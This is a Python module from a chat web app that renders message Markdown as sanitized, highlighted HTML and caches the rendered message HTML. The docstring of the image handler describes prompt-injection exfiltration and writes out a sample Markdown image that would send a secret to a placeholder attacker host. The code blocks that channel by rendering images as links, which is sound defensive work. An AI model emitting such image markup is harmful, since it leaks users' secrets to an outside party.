"""Message text as the page shows it: sanitized Markdown with highlighted code (UX-1).

One renderer on the server serves the first page load and every refresh the page makes while
it is open (the messages fragment), so the live view and a reload are the same HTML. While a
reply streams, the page shows its plain text; once the run ends the fragment replaces it
with this rendering, so a half-open code fence is never parsed mid-stream.
"""

from __future__ import annotations

import contextlib
import threading
from collections import OrderedDict
from collections.abc import Hashable
from functools import lru_cache
from html import escape
from typing import Any

import nh3
from django.template.loader import get_template
from django.utils.safestring import mark_safe
from markdown_it import MarkdownIt
from mdit_py_plugins.tasklists import tasklists_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

# Only what Markdown produces plus the code-block frame; raw HTML in a message is text
# (html=False) and this list is the second fence if a plugin ever lets markup through.
_TAGS = {
    "p", "br", "hr", "strong", "em", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td",
    "span", "div", "button", "input",
}  # fmt: skip
_ATTRIBUTES = {
    "*": {"class"},
    "a": {"href", "title"},
    "ol": {"start"},
    "input": {"type", "checked", "disabled"},
    "button": {"type", "data-copy"},
    "div": {"data-lang"},
}
_FORMATTER = HtmlFormatter(nowrap=True)
# A message can be long; highlighting megabytes of code would hold the page's render.
HIGHLIGHT_LIMIT = 100_000


def _fence(self, tokens, idx, options, env) -> str:  # noqa: ANN001 (markdown-it's renderer signature)
    token = tokens[idx]
    lang = token.info.strip().split(maxsplit=1)[0] if token.info.strip() else ""
    code = token.content
    body = escape(code)
    if lang and len(code) <= HIGHLIGHT_LIMIT:
        with contextlib.suppress(ClassNotFound):  # an unknown language stays plain text
            body = highlight(code, get_lexer_by_name(lang), _FORMATTER)
    label = escape(lang) if lang else "text"
    return (
        f'<div class="code-block" data-lang="{label}"><div class="code-head"><span class="code-lang">{label}</span>'
        f'<button type="button" class="copy" data-copy="code">Copy</button></div>'
        f'<pre class="highlight"><code>{body}</code></pre></div>\n'
    )


def _image_as_link(self, tokens, idx, options, env) -> str:  # noqa: ANN001 (markdown-it's renderer signature)
    """A Markdown image as a link to it, never an `<img>`: SB-6's CSP loads images from this site
    only, so a remote one drew as a broken icon and a CSP error on every refresh (QA). And an
    image the page fetched by itself would be the classic exfiltration channel of an injected
    prompt (`![x](https://attacker/?q=<secret>)`): a link goes nowhere until the user clicks it."""
    token = tokens[idx]
    source = str(token.attrGet("src") or "")
    label = escape(self.renderInlineAsText(token.children or [], options, env) or source)
    # An image inside a link (a README's badge): the link already goes somewhere, and a link
    # inside a link is not HTML (the parser would empty the outer one).
    opened = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
    if opened > 0:
        return f'<span class="image-link">{label}</span>'
    title = token.attrGet("title")
    titled = f' title="{escape(str(title))}"' if title else ""
    return f'<a href="{escape(source)}" class="image-link"{titled}>{label}</a>'


def _alignment_as_class(state) -> None:  # noqa: ANN001 (markdown-it's rule signature)
    """A GFM column's alignment as a class: SB-6's CSP refuses style attributes."""
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            style = token.attrs.pop("style", None)
            if isinstance(style, str) and style.startswith("text-align:"):
                token.attrSet("class", f"align-{style.removeprefix('text-align:')}")


def _parser() -> MarkdownIt:
    # breaks: a single line break is a line break, as in every chat UI.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "breaks": True})
    md.enable(["table", "strikethrough"])
    md.use(tasklists_plugin)
    md.add_render_rule("fence", _fence)
    md.core.ruler.push("alignment_as_class", _alignment_as_class)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image_as_link)
    return md


_MD = _parser()


@lru_cache(maxsize=4096)
def markdown_html(text: str) -> str:
    """Sanitized HTML for a message's Markdown; links open in a new tab without an opener.

    Cached by text: stored messages never change, and a page shows the same ones again and again.
    """
    return nh3.clean(
        _MD.render(text),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
    )


# --- one message's article, cached --------------------------------------------------

# The conversation page draws up to PAGE_MESSAGES articles on every load and every live refresh;
# rendering each through the template was most of the page's time (bench pages: p90 432 ms at
# 1,000 messages). An article depends only on what it is drawn from, so its HTML is kept under a
# fingerprint of exactly that: an edit, a new sibling, a result or new usage makes a new key.
ARTICLE_CACHE_SIZE = 20_000
_articles: OrderedDict[Hashable, str] = OrderedDict()
_articles_lock = threading.Lock()


def _fingerprint(item: dict[str, Any]) -> Hashable:
    message = item["message"]
    return (
        message.pk,
        message.role,
        item.get("run_id"),
        item.get("mid_turn"),
        tuple(tuple(sorted(block.items())) for block in item["blocks"]),
        tuple(sorted((item.get("usage") or {}).items())),
        tuple(sorted((item.get("siblings") or {}).items())),
    )


def messages_html(items: list[dict[str, Any]]) -> str:
    """The articles of the shown messages, each followed by its prompt's run card if it has one (or,
    for a prompt at the tip with no answer on the path, what can answer it)."""
    card = get_template("conversations/_run_card.html")
    parts = []
    for item in items:
        parts.append(article_html(item))
        if "live_run" in item or "ended_run" in item or "unanswered" in item:  # the latest prompts: never cached
            parts.append(card.render({"item": item}))
    return mark_safe("\n".join(parts))  # noqa: S308 (the templates escape)


def article_html(item: dict[str, Any]) -> str:
    """The HTML of one message's article (`conversations/_message.html`), from the cache when
    the same message was drawn with the same surroundings before."""
    key = _fingerprint(item)
    with _articles_lock:
        html = _articles.get(key)
        if html is not None:
            _articles.move_to_end(key)
            return html
    html = mark_safe(get_template("conversations/_message.html").render({"item": item, "message": item["message"]}))  # noqa: S308 (the template escapes)
    with _articles_lock:
        _articles[key] = html
        if len(_articles) > ARTICLE_CACHE_SIZE:
            _articles.popitem(last=False)
    return html
